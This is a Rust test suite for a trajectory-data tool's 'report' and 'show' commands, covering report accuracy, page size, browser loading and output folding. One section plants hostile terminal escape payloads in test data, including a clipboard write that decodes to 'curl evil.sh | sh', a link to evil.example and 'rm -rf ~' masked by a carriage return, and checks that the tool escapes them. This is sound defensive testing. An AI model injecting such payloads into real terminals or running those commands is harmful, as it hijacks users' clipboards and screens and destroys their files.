//! `trajkit report` and `trajkit show`: the report's numbers against `stats` on the same input,
//! the sample pipeline's outputs read whole (rejects by stage and rule), empty and oversized
//! input, the page in headless Chromium (`tests/report/browser.py`); `show` by id and
//! position, plain when piped, folded; terminal escape sequences of the data escaped in `show`,
//! `stats` and diagnostics; names from the data capped in the embedded `stats`.

use std::path::{Path, PathBuf};
use std::process::Command;

use serde_json::{json, Value};

use crate::common::{converted_samples, sample_pipeline, trajkit};
use crate::interop::python;

/// The JSON the page embeds.
fn embedded(page: &str) -> Value {
    let start = page
        .find("<script type=\"application/json\" id=\"trajkit-report-data\">")
        .expect("data block");
    let rest = &page[start..];
    let body = &rest[rest.find('>').expect("tag end") + 1..rest.find("</script>").expect("end")];
    serde_json::from_str(body).expect("the data block is JSON")
}

fn report(args: &[&Path], out: &Path) -> String {
    let o = trajkit()
        .args(["report", "-q", "-o"])
        .arg(out)
        .args(args)
        .output()
        .expect("runs");
    assert_eq!(
        o.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&o.stderr)
    );
    std::fs::read_to_string(out).expect("page written")
}

fn stats(args: &[&Path]) -> Value {
    let o = trajkit()
        .args(["stats", "-q", "--json"])
        .args(args)
        .output()
        .expect("runs");
    assert_eq!(
        o.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&o.stderr)
    );
    serde_json::from_slice(&o.stdout).expect("stats --json")
}

/// Runs the sample pipeline into `dir/out`; returns that directory.
fn run_sample_pipeline(dir: &Path) -> PathBuf {
    let out = dir.join("out");
    run_pipeline(dir, &sample_pipeline(&out, ""));
    out
}

/// Runs the pipeline file `text`, written into `dir`; it must succeed.
fn run_pipeline(dir: &Path, text: &str) {
    let pipeline = dir.join("pipeline.toml");
    std::fs::write(&pipeline, text).expect("pipeline");
    let o = trajkit()
        .args(["run", "-q"])
        .arg(&pipeline)
        .output()
        .expect("runs");
    assert_eq!(
        o.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&o.stderr)
    );
}

#[test]
fn report_numbers_equal_stats_on_the_same_input() {
    let tmp = tempfile::tempdir().expect("temp dir");
    let samples = converted_samples(tmp.path());
    let page = report(&[&samples], &tmp.path().join("r.html"));
    let data = embedded(&page);
    assert_eq!(data["profile"]["stats"], stats(&[&samples]));
    let p = &data["profile"];
    let n = p["stats"]["valid"].as_u64().expect("valid");
    let steps_hist: u64 = p["steps_per_trajectory"]["counts"]
        .as_array()
        .expect("counts")
        .iter()
        .map(|c| c.as_u64().expect("count"))
        .sum();
    assert_eq!(steps_hist, n);
    let formats: u64 = p["formats"]
        .as_object()
        .expect("formats")
        .values()
        .map(|s| s["trajectories"].as_u64().expect("n"))
        .sum();
    assert_eq!(formats, n);
    // The visible overview shows the same numbers.
    assert!(page.contains(&format!(
        "<tr><th>trajectories</th><td class=\"n\">{n}</td></tr>"
    )));
    assert!(page.contains("Content-Security-Policy"));
    assert!(!page.contains("<script>") && !page.contains("src=\"http"));
    // Same bytes on every run, whatever the thread count.
    let again = trajkit()
        .args(["report", "-q", "--threads", "1", "-o", "-"])
        .arg(&samples)
        .output()
        .expect("runs");
    assert_eq!(String::from_utf8_lossy(&again.stdout), page);
}

#[test]
fn report_reads_a_runs_outputs_with_rejects_and_stages() {
    let tmp = tempfile::tempdir().expect("temp dir");
    let out = run_sample_pipeline(tmp.path());
    let page = report(&[&out], &tmp.path().join("r.html"));
    let data = embedded(&page);
    // The Parquet export's shards are what was read: stats on them agree.
    assert_eq!(
        data["profile"]["stats"],
        stats(&[&out.join("parquet/data")])
    );
    assert_eq!(
        data["rejects"]["by_stage"],
        json!({"export[4]": {"sharegpt-starts-with-assistant": 1}})
    );
    let stages = data["run"]["stages"].as_array().expect("stages");
    assert_eq!(stages[0]["stage"], "convert");
    for id in [
        "chart-steps",
        "chart-turns",
        "chart-outcomes",
        "chart-classes",
        "chart-tools",
        "chart-rejects",
    ] {
        assert!(
            page.contains(&format!("<figure id=\"{id}\"><figcaption>")),
            "{id}"
        );
    }
    assert!(page.contains("<details class=\"example\""));
    // An SFT export holds no trajectories: a clear usage error.
    let o = trajkit()
        .args(["report", "-q", "-o", "-"])
        .arg(out.join("openai"))
        .output()
        .expect("runs");
    assert_eq!(o.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&o.stderr).contains("holds conversations"));
}

#[test]
fn an_empty_input_gives_a_page_that_says_so() {
    let tmp = tempfile::tempdir().expect("temp dir");
    let empty = tmp.path().join("empty.jsonl");
    std::fs::write(&empty, "").expect("write");
    let page = report(&[&empty], &tmp.path().join("r.html"));
    assert!(page.contains("The input holds no trajectories."));
    assert_eq!(embedded(&page)["profile"]["stats"]["records"], 0);
}

#[test]
fn huge_trajectories_and_observations_make_a_small_page() {
    let tmp = tempfile::tempdir().expect("temp dir");
    let mut content: Vec<Value> = (0..10_000)
        .map(|i| json!({"class_": "message_action", "content": format!("m{i}"), "description": null}))
        .collect();
    content.insert(
        0,
        json!({"class_": "text_observation", "content": "x".repeat(10 << 20), "name": null, "source": "user"}),
    );
    let t = json!({"schema_version": "1.5.0", "id": "huge", "content": content, "details": {}});
    let file = tmp.path().join("huge.jsonl");
    std::fs::write(&file, format!("{t}\n")).expect("write");
    let out = tmp.path().join("r.html");
    report(&[&file], &out);
    let size = std::fs::metadata(&out).expect("page").len();
    assert!(size < 200_000, "page of {size} bytes");
    let page = std::fs::read_to_string(&out).expect("read");
    assert!(page.contains("steps not shown"));
    assert!(page.contains(&format!("… {} bytes more", (10 << 20) - 2000)));
}

#[test]
fn the_page_loads_in_headless_chromium_without_errors_or_requests() {
    let Some(python) = python() else { return };
    if !Path::new("/usr/bin/chromium").exists() {
        assert!(
            std::env::var_os("CI").is_none(),
            "/usr/bin/chromium is missing but CI is set: .ci/run installs it"
        );
        eprintln!("skipping: no /usr/bin/chromium");
        return;
    }
    let tmp = tempfile::tempdir().expect("temp dir");
    let out = run_sample_pipeline(tmp.path());
    let page = tmp.path().join("report.html");
    report(&[&out], &page);
    let shot = Path::new(env!("CARGO_MANIFEST_DIR")).join("target/report-screenshot.png");
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/report/browser.py");
    let o = Command::new(python)
        .arg(script)
        .arg(&page)
        .arg(&shot)
        .output()
        .expect("python runs");
    assert!(
        o.status.success(),
        "{}\n{}",
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    );
    assert!(shot.is_file());
}

#[test]
fn show_prints_one_trajectory_plain_when_piped() {
    let tmp = tempfile::tempdir().expect("temp dir");
    let samples = converted_samples(tmp.path());
    let o = trajkit()
        .args(["show", "--id", "task-002/attempt-001"])
        .arg(&samples)
        .output()
        .expect("runs");
    assert_eq!(
        o.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&o.stderr)
    );
    let text = String::from_utf8(o.stdout).expect("utf-8");
    assert!(!text.contains('\x1b'), "no colours when piped");
    assert!(text.starts_with("task-002/attempt-001  2 steps"));
    assert!(text.contains("── 0 · api_action · grep · call_000001 → result 1"));
    assert!(text.contains("── 1 · text_observation · environment: grep · call_000001 ← call 0"));

    let first = trajkit()
        .args(["show"])
        .arg(&samples)
        .output()
        .expect("runs");
    let by_index = trajkit()
        .args(["show", "--index", "0", "--color", "always"])
        .arg(&samples)
        .output()
        .expect("runs");
    assert_eq!(first.status.code(), Some(0));
    assert!(String::from_utf8_lossy(&by_index.stdout).contains("\x1b[1m"));

    let missing = trajkit()
        .args(["show", "--id", "nope"])
        .arg(&samples)
        .output()
        .expect("runs");
    assert_eq!(missing.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&missing.stderr).contains("no trajectory has the id \"nope\""));
}

#[test]
fn show_folds_long_texts_unless_full() {
    let tmp = tempfile::tempdir().expect("temp dir");
    let t = json!({"schema_version": "1.5.0", "id": "long", "details": {}, "content": [
        {"class_": "text_observation", "content": "y".repeat(5000), "name": null, "source": "user"},
        {"class_": "message_action", "content": "done", "description": null}]});
    let file = tmp.path().join("t.jsonl");
    std::fs::write(&file, format!("{t}\n")).expect("write");
    let folded = trajkit().args(["show"]).arg(&file).output().expect("runs");
    let text = String::from_utf8_lossy(&folded.stdout);
    assert!(text.contains("… 4000 bytes more (--full shows them)"));
    let full = trajkit()
        .args(["show", "--full"])
        .arg(&file)
        .output()
        .expect("runs");
    assert!(String::from_utf8_lossy(&full.stdout).contains(&"y".repeat(5000)));
}

#[test]
fn a_pipeline_report_key_writes_the_page_after_the_run() {
    let tmp = tempfile::tempdir().expect("temp dir");
    let out = tmp.path().join("out");
    let page = out.join("report.html");
    let text = format!(
        "{}\n[report]\noutput = \"{}\"\n",
        sample_pipeline(&out, ""),
        page.display()
    );
    run_pipeline(tmp.path(), &text);
    let data = embedded(&std::fs::read_to_string(&page).expect("page written"));
    assert_eq!(
        data["profile"]["stats"],
        stats(&[&out.join("parquet/data")])
    );
    assert_eq!(
        data["rejects"]["by_stage"]["export[4]"]["sharegpt-starts-with-assistant"],
        1
    );

    // Without an adp or parquet export there is nothing to read: a located error.
    let only_sft = text.replace("to = \"parquet\"", "to = \"openai\"");
    let pipeline = tmp.path().join("pipeline.toml");
    std::fs::write(&pipeline, only_sft).expect("pipeline");
    let o = trajkit()
        .args(["run", "--check"])
        .arg(&pipeline)
        .output()
        .expect("runs");
    assert_eq!(o.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&o.stderr).contains("[report] reads an adp or parquet export"));
}

/// Terminal payloads of each kind: window title (OSC 0), clipboard write (OSC 52), hyperlink
/// (OSC 8), clear screen, colours, the 8-bit CSI, carriage return and backspace, bell.
const PAYLOADS: &[&str] = &[
    "\x1b]0;owned\x07",
    "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07",
    "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\",
    "\x1b[2J\x1b[H",
    "\x1b[31mred\x1b[0m",
    "\u{9b}2J\u{9b}31m",
    "rm -rf ~\r# harmless comment",
    "secret\x08\x08\x08\x08\x08\x08public",
];

/// A trajectory with `payload` in its id, a function name, a tool call id, an observation's
/// name, its outcome and every text.
fn hostile(i: usize, payload: &str) -> Value {
    json!({"schema_version": "1.5.0", "id": format!("t{i}{payload}"),
        "details": {"outcome": {"status": payload}},
        "content": [
        {"class_": "text_observation", "content": format!("ask {payload} end"), "name": null,
         "source": "user"},
        {"class_": "api_action", "function": format!("f{payload}"), "kwargs": {payload: payload},
         "description": payload, "tool_call_id": format!("c{payload}")},
        {"class_": "text_observation", "content": payload, "name": payload,
         "source": "environment", "tool_call_id": format!("c{payload}")},
        {"class_": "code_action", "language": "bash", "content": payload,
         "description": null},
        {"class_": "message_action", "content": payload, "description": null}]})
}

/// `text` without the SGR colour sequences `show` writes.
fn without_colours(text: &str) -> String {
    let mut out = String::new();
    let mut rest = text;
    while let Some(i) = rest.find("\x1b[") {
        out.push_str(&rest[..i]);
        let after = &rest[i + 2..];
        let n = after
            .find(|c: char| !(c.is_ascii_digit() || c == ';'))
            .unwrap_or(after.len());
        assert!(
            after[n..].starts_with('m'),
            "not a colour: {:?}",
            &rest[i..]
        );
        rest = &after[n + 1..];
    }
    out.push_str(rest);
    out
}

/// `text` as the docs say `show` writes it: control characters but newline and tab as `\u{HEX}`.
fn escaped(text: &str) -> String {
    text.chars()
        .map(|c| match c {
            '\n' | '\t' => c.to_string(),
            c if c.is_control() => format!("\\u{{{:x}}}", u32::from(c)),
            c => c.to_string(),
        })
        .collect()
}

fn assert_no_controls(what: &str, text: &str) {
    let bad: Vec<char> = text
        .chars()
        .filter(|&c| c.is_control() && c != '\n' && c != '\t')
        .collect();
    assert!(bad.is_empty(), "{what}: {bad:?} in {text:?}");
}

#[test]
fn show_escapes_the_control_characters_of_the_data_in_every_mode() {
    let tmp = tempfile::tempdir().expect("temp dir");
    let file = tmp.path().join("hostile.jsonl");
    let lines: Vec<String> = (PAYLOADS.iter().enumerate())
        .map(|(i, p)| hostile(i, p).to_string())
        .collect();
    std::fs::write(&file, lines.join("\n") + "\n").expect("write");
    for (i, payload) in PAYLOADS.iter().enumerate() {
        let shown = escaped(payload);
        for color in ["never", "always", "auto"] {
            let o = trajkit()
                .args([
                    "show",
                    "--full",
                    "--color",
                    color,
                    "--index",
                    &i.to_string(),
                ])
                .arg(&file)
                .output()
                .expect("runs");
            assert_eq!(
                o.status.code(),
                Some(0),
                "{}",
                String::from_utf8_lossy(&o.stderr)
            );
            let text = String::from_utf8(o.stdout).expect("utf-8");
            assert_eq!(
                color == "always",
                text.contains('\x1b'),
                "{color}: {text:?}"
            );
            let bare = without_colours(&text);
            assert_no_controls(&format!("show --color {color}, {payload:?}"), &bare);
            for part in [
                format!("t{i}{shown}"),
                format!("f{shown}"),
                format!("ask {shown} end"),
            ] {
                assert!(bare.contains(&part), "{part:?} not in {bare}");
            }
        }
    }
    let id = format!("t0{}", PAYLOADS[0]);
    let o = trajkit()
        .args(["show", "--id", &format!("{id}x")])
        .arg(&file)
        .output()
        .expect("runs");
    assert_eq!(o.status.code(), Some(1));
    assert_no_controls("show's error", &String::from_utf8_lossy(&o.stderr));
}

#[test]
fn stats_and_diagnostics_escape_the_control_characters_of_the_data() {
    let tmp = tempfile::tempdir().expect("temp dir");
    let file = tmp.path().join("hostile.jsonl");
    let mut lines: Vec<String> = (PAYLOADS.iter().enumerate())
        .map(|(i, p)| hostile(i, p).to_string())
        .collect();
    // Invalid records whose diagnostics quote the data: a source not in the schema's enum, a
    // member name in the pointer, an id of the data.
    for &p in PAYLOADS {
        lines.push(
            json!({"schema_version": "1.5.0", "id": p, "details": {}, "content": [
                {"class_": "text_observation", "content": "x", "name": null, "source": p},
                {"class_": "message_action", "content": "y", "description": null,
                 "kwargs": {p: 1}}]})
            .to_string(),
        );
    }
    std::fs::write(&file, lines.join("\n") + "\n").expect("write");
    let o = trajkit().args(["stats"]).arg(&file).output().expect("runs");
    assert_eq!(
        o.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&o.stderr)
    );
    let table = String::from_utf8(o.stdout).expect("utf-8");
    assert!(table.contains("f\\u{1b}]0;owned\\u{7}"), "{table}");
    assert_no_controls("stats", &table);
    assert_no_controls("stats' stderr", &String::from_utf8_lossy(&o.stderr));
    let o = trajkit()
        .args(["validate", "--report", "human"])
        .arg(&file)
        .output()
        .expect("runs");
    assert_eq!(o.status.code(), Some(1));
    let text = String::from_utf8(o.stdout).expect("utf-8");
    assert!(text.lines().count() >= PAYLOADS.len(), "{text}");
    assert!(text.contains("\\u{9b}2J"), "{text}");
    assert_no_controls("validate --report human", &text);
    assert_no_controls("validate's stderr", &String::from_utf8_lossy(&o.stderr));
    // Diagnostics on stderr: convert's rejects.
    let o = trajkit()
        .args(["convert", "--from", "adp", "-o"])
        .arg(tmp.path().join("out.jsonl"))
        .arg(&file)
        .output()
        .expect("runs");
    let stderr = String::from_utf8_lossy(&o.stderr);
    assert!(stderr.contains("error["), "{stderr}");
    assert_no_controls("convert's stderr", &stderr);
}

#[test]
fn the_embedded_stats_keep_at_most_a_thousand_function_names() {
    let tmp = tempfile::tempdir().expect("temp dir");
    let file = tmp.path().join("many.jsonl");
    let lines: Vec<String> = (0..20)
        .map(|t| {
            let content: Vec<Value> = (0..5000)
                .map(|i| {
                    json!({"class_": "api_action", "function": format!("tool_{t}_{i}"),
                    "kwargs": {}, "description": null})
                })
                .collect();
            json!({"schema_version": "1.5.0", "id": format!("t{t}"), "content": content,
                "details": {}})
            .to_string()
        })
        .collect();
    std::fs::write(&file, lines.join("\n") + "\n").expect("write");
    let out = tmp.path().join("r.html");
    let page = report(&[&file], &out);
    let data = embedded(&page);
    let functions = data["profile"]["stats"]["functions"]
        .as_object()
        .expect("functions");
    assert_eq!(functions.len(), 1001);
    assert_eq!(functions["(other)"], 99_000);
    assert_eq!(
        data["profile"]["stats"],
        stats(&[&file]),
        "stats caps alike"
    );
    assert!(page.len() < 200_000, "page of {} bytes", page.len());
}
